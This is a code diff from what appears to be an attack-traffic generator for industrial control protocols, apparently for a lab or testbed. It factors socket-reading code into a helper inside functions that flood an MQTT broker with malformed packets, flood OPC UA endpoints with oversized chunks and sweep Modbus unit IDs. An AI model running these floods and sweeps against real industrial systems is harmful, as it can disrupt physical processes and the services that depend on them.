@@ -468,18 +468,23 @@ def malformed_packets() -> list[bytes]:
     ]
 
 
+def _drain(s: socket.socket, timeout: float) -> None:
+    """Read what the peer still sends until it is quiet for *timeout* s or closes (a flood tool's read)."""
+    s.settimeout(timeout)
+    try:
+        while s.recv(4096):
+            pass
+    except (socket.timeout, ConnectionResetError, BrokenPipeError):
+        pass
+
+
 def mqtt_malformed_flood(args) -> None:
     pkts = malformed_packets()
     for i in range(MALFORMED_PACKETS):
         with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
             s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
             s.sendall(pkts[i % len(pkts)])
-            s.settimeout(0.05)
-            try:
-                while s.recv(4096):
-                    pass
-            except (socket.timeout, ConnectionResetError):
-                pass
+            _drain(s, 0.05)
 
 
 async def opcua_connection_flood(args) -> None:
@@ -529,12 +534,7 @@ def modbus_unit_sweep(args) -> None:
         for tid, unit in enumerate(UNIT_SWEEP_IDS, 1):
             s.sendall(struct.pack("!HHHBBHH", tid, 0, 6, unit, 3, 0, 1))
             time.sleep(0.002)
-        s.settimeout(0.3)
-        try:
-            while s.recv(4096):
-                pass
-        except (socket.timeout, ConnectionResetError):
-            pass
+        _drain(s, 0.3)
 
 
 def mqtt_connect_flood(args) -> None:
@@ -565,11 +565,9 @@ def opcua_oversized_chunks(args) -> None:
             s.recv(64)
             try:
                 s.sendall(msg)
-                s.settimeout(0.2)
-                while s.recv(4096):
-                    pass
-            except (socket.timeout, ConnectionResetError, BrokenPipeError):
-                pass
+            except (ConnectionResetError, BrokenPipeError):
+                continue
+            _drain(s, 0.2)
 
 
 def role_bot(args) -> None:
